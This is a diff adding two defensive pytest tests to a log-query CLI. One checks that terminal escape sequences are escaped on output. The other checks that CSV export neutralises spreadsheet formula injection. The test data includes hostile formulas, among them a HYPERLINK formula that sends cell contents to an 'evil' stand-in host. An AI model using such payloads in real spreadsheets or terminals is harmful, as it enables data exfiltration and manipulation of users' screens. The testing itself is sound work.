@@ -1,6 +1,8 @@
 from __future__ import annotations
 
 import argparse
+import csv
+import io
 import json
 from datetime import UTC, datetime
 from pathlib import Path
@@ -130,3 +132,25 @@ def test_a_question_in_sql(monkeypatch: pytest.MonkeyPatch, capsys: pytest.Captu
     assert lab("query", "SELECT count(*) AS lines FROM logs") == 0
     assert asked == [("SELECT count(*) AS lines FROM logs", "lab", "s3://logs/_athena/")]
     assert capsys.readouterr().out.splitlines() == ["lines", "    2", "1 rows, 1,234 bytes read (table logs)"]
+
+
+def test_a_terminal_shows_escape_sequences_and_obeys_none(capsys: pytest.CaptureFixture[str]) -> None:
+    """A log line is anybody's: what clears a screen or names a window is shown as letters; --raw keeps it."""
+    frame = pd.DataFrame({"line": ["\x1b[2J\x1b]0;title\x07 \x9b31m", "plain é"]})
+    cli_logs.write(frame, "table", None)
+    out = capsys.readouterr().out
+    assert "\\x1b[2J\\x1b]0;title\\x07 \\x9b31m" in out
+    assert "plain é" in out
+    assert not set(out) & {"\x1b", "\x07", "\x9b"}
+    cli_logs.write(frame, "csv", None, raw=True)
+    assert "\x1b[2J" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", " =1", "\t=1"])
+def test_a_spreadsheet_gets_no_formulas(text: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """A query string of a stranger's becomes no formula; numbers and the hyphen of a missing value stay."""
+    frame = pd.DataFrame({"query": [text, "-", "-1.5", "a=b"], "n": [1, -2, 3, 4]})
+    cli_logs.write(frame, "csv", None)
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert [row[0] for row in rows[1:]] == [f"'{text}", "-", "-1.5", "a=b"]
+    assert [row[1] for row in rows[1:]] == ["1", "-2", "3", "4"]
